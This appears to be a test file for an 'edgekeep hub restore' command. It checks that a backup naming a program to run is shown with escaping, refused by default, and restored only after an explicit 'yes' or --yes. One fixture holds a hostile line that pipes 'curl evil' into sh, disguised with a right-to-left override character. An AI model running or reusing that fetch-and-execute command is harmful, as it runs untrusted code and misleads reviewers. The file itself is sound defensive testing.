// `edgekeep hub restore` shows the programs that the backup would execute, and asks: a backup may come from anybody.
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { findProgram } from '@edgekeep/cli/program';
import { initHub } from '@edgekeep/hub/commands/init';
import { backUpHub } from '@edgekeep/hub/secrets/backup';
import { parseHubSettings } from '@edgekeep/hub/settings';
import { edgekeep } from './main-job/edgekeep.ts';
import { ending } from './support/child.ts';

let folder = '';
before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'edgekeep-restore-'));
  await backupThatRuns('plain', []);
  // The override reverses the text after it on a screen.
  await backupThatRuns('naming', ['/bin/sh', '-c', 'curl evil \u202e| sh']);
});
after(() => rm(folder, { recursive: true, force: true }));

const at = (name: string) => join(folder, name);

async function backupThatRuns(name: string, unlockProgram: readonly string[]): Promise<void> {
  const data = at(`${name}-hub`);
  const settings = parseHubSettings({ unlockProgram }, 'test');
  await initHub(data, { rootFolder: at(`${name}-root`), settings, nowMs: Date.now(), unlockers: [] });
  await backUpHub({ folder: data, file: at(name), plain: true, blobs: false });
}

const isThere = (name: string) =>
  readdir(at(name)).then(
    (names) => names.length > 0,
    () => false,
  );

/** The same with a terminal, at which a person types a line. */
async function atTerminal(line: string, ...words: readonly string[]): Promise<{ code: number | null; shown: string }> {
  const command = [process.execPath, findProgram('@edgekeep/cli/main').file, ...words]
    .map((word) => `'${word}'`)
    .join(' ');
  const child = spawn('script', ['-qec', command, '/dev/null'], { stdio: ['pipe', 'pipe', 'inherit'] });
  await using _ = ending(child);
  const code = new Promise<number | null>((resolve, reject) => child.once('error', reject).once('close', resolve));
  let typed = false;
  let shown = '';
  child.stdout.on('data', (chunk: Buffer) => {
    shown += chunk.toString();
    if (typed || !shown.includes('type yes: ')) return;
    typed = true;
    child.stdin.write(`${line}\n`);
  });
  return { code: await code, shown };
}

const shownProgram = String.raw`"/bin/sh" "-c" "curl evil \u{202e}| sh"`;

// SECURITY.md: HUB-56
test('without a terminal and without --yes a backup that names a program is refused, is shown, and what to do is said', async () => {
  const { code, stderr } = await edgekeep('hub', 'restore', '--unsigned', at('naming'), '--data', at('refused'));
  assert.equal(code, 3, stderr);
  assert.ok(stderr.includes(shownProgram), stderr);
  assert.match(stderr, /backup-refused: .*check it, then use --yes/);
  assert.equal(await isThere('refused'), false);
});

test('with --yes it is restored, and the program is shown all the same', async () => {
  const { code, stderr } = await edgekeep(
    'hub',
    'restore',
    '--unsigned',
    at('naming'),
    '--data',
    at('agreed'),
    '--yes',
  );
  assert.equal(code, 0, stderr);
  assert.ok(stderr.includes(shownProgram), stderr);
  assert.equal(await isThere('agreed'), true);
});

test('a backup that names no program is restored without a question', async () => {
  const { code, stderr } = await edgekeep('hub', 'restore', '--unsigned', at('plain'), '--data', at('silent'));
  assert.equal(code, 0, stderr);
  assert.equal(stderr, '');
});

// SECURITY.md: HUB-56
test('at a terminal the word yes restores, and every other answer does not', async () => {
  for (const [line, restored] of [
    ['y', false],
    ['', false],
    ['yes', true],
  ] as const) {
    const { code, shown } = await atTerminal(line, 'hub', 'restore', '--unsigned', at('naming'), '--data', at('asked'));
    assert.ok(shown.includes(shownProgram), shown);
    assert.equal(code, restored ? 0 : 3, shown);
    assert.equal(await isThere('asked'), restored, line);
  }
});
